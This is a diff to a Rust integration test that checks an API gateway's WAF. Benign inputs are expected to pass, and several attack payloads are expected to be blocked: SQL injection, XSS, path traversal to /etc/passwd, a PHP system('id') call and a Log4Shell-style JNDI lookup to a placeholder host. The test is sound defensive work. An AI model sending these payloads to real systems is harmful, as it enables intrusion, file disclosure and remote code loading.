@@ -302,18 +302,28 @@ async fn the_demo_contract_from_the_readme() {
     assert_eq!(resp.status(), 400);
     assert_eq!(json(resp).await["code"], "BadRequest");
 
-    // The WAF: SQL injection and XSS are refused, an Irish surname is not.
-    for (q, expected) in [
-        ("1'%20OR%20'1'='1", 403),
-        ("%3Cscript%3Ealert(1)%3C/script%3E", 403),
-        ("O'Brien", 200),
+    // The WAF (the managed groups, then the OWASP CRS): SQL injection, XSS,
+    // traversal, PHP injection and a JNDI lookup in a header are refused;
+    // an Irish surname and a paragraph of prose are not.
+    for (q, header, expected) in [
+        ("1'%20OR%20'1'='1", None, 403),
+        ("%3Cscript%3Ealert(1)%3C/script%3E", None, 403),
+        ("../../etc/passwd", None, 403),
+        ("%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", None, 403),
+        ("1", Some("${jndi:ldap://x.example/a}"), 403),
+        ("O'Brien", None, 200),
+        (
+            "We+select+the+best+of+our+union+members%2C+and+drop+by+the+office+later+to+update+the+table.",
+            None,
+            200,
+        ),
     ] {
-        let resp = c
-            .get(format!("{}?q={q}", gh.url("/demo/hello")))
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(resp.status(), expected, "{q}");
+        let mut req = c.get(format!("{}?q={q}", gh.url("/demo/hello")));
+        if let Some(h) = header {
+            req = req.header("x-api-version", h);
+        }
+        let resp = req.send().await.unwrap();
+        assert_eq!(resp.status(), expected, "{q} {header:?}");
     }
 
     // /demo/secure: no key 401, an unknown key 403, the README's demo key 200.
@@ -340,12 +350,13 @@ async fn the_demo_contract_from_the_readme() {
 
     let metrics = gh.metrics().await;
     for needle in [
-        // The first GET, and O'Brien past the WAF; the two attacks were 403.
-        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"200\"} 2",
-        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"403\"} 2",
+        // The first GET, O'Brien and the prose past the WAF; the five
+        // attacks were 403.
+        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"200\"} 3",
+        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"403\"} 5",
         "gatehouse_requests_total{api=\"-\",route=\"-\",status=\"404\"} 1",
         "gatehouse_requests_total{api=\"-\",route=\"-\",status=\"405\"} 1",
-        "gatehouse_request_duration_seconds_count{api=\"demo\",route=\"hello\"} 4",
+        "gatehouse_request_duration_seconds_count{api=\"demo\",route=\"hello\"} 8",
         "gatehouse_active_connections",
         "gatehouse_inflight_requests",
     ] {
